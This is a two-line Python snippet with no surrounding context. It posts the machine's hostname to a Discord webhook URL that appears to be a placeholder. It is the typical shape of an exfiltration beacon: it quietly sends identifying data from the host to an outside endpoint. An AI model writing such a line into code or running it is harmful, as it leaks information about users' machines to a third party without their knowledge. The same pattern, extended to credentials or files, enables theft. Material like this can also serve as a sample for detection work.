import requests, socket
requests.post("https://discord.com/api/webhooks/1/abc", json={"content": socket.gethostname()})
